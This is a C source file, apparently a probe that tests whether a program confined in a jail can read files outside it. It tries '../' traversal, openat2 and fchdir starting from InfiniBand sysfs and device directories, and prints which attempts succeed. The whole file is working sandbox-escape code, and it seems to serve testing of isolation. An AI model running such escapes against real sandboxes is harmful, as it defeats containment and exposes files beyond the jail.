// A program in a jail, which tries to open files outside of it. It is linked statically, because the jail has no
// libraries.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <linux/openat2.h>
#include <unistd.h>

static const char up[] = "../../../../../../../../../../../../../../../..";

static void try_from(const char *what, int dir, const char *file)
{
	char path[600], text[64] = "";
	snprintf(path, sizeof path, "%s%s", up, file);
	int fd = openat(dir, path, O_RDONLY);
	if (fd >= 0)
		read(fd, text, sizeof text - 1);
	printf("%s: %s %s\n", what, fd < 0 ? strerror(errno) : "opened", text);
	struct open_how how = {.flags = O_PATH | O_DIRECTORY};
	fd = syscall(SYS_openat2, dir, up, &how, sizeof how);
	if (fd >= 0) {
		int f = openat(fd, file + 1, O_RDONLY);
		printf("%s by openat2: %s\n", what, f < 0 ? strerror(errno) : "opened");
	}
}

// escape FILE: reads a file outside of the jail by its absolute name there.
int main(int argc, char **argv)
{
	const char *dirs[] = {"/sys/class/infiniband", "/sys/class/infiniband_verbs", "/sys/class/infiniband/rxe0", "/dev/infiniband",
		"/sys/class/infiniband_verbs/uverbs0", "/sys/class/infiniband/rxe0/ports"};
	int outside = open(argv[1], O_RDONLY);
	printf("in the jail: %s\n", outside < 0 ? strerror(errno) : "opened");
	for (unsigned i = 0; i < sizeof dirs / sizeof *dirs; i++) {
		int d = open(dirs[i], O_RDONLY | O_DIRECTORY);
		if (d < 0) {
			printf("%s: %s\n", dirs[i], strerror(errno));
			continue;
		}
		try_from(dirs[i], d, argv[1]);
		if (!fchdir(d)) {
			char path[600];
			snprintf(path, sizeof path, "%s%s", up, argv[1]);
			int f = open(path, O_RDONLY);
			printf("%s by fchdir: %s\n", dirs[i], f < 0 ? strerror(errno) : "opened");
		}
	}
	// The descriptor of the queue file opens no directory, but its link has the path.
	int fd = open("/dev/infiniband/uverbs0", O_RDWR);
	printf("device: %s\n", fd < 0 ? strerror(errno) : "opened");
	return 0;
}
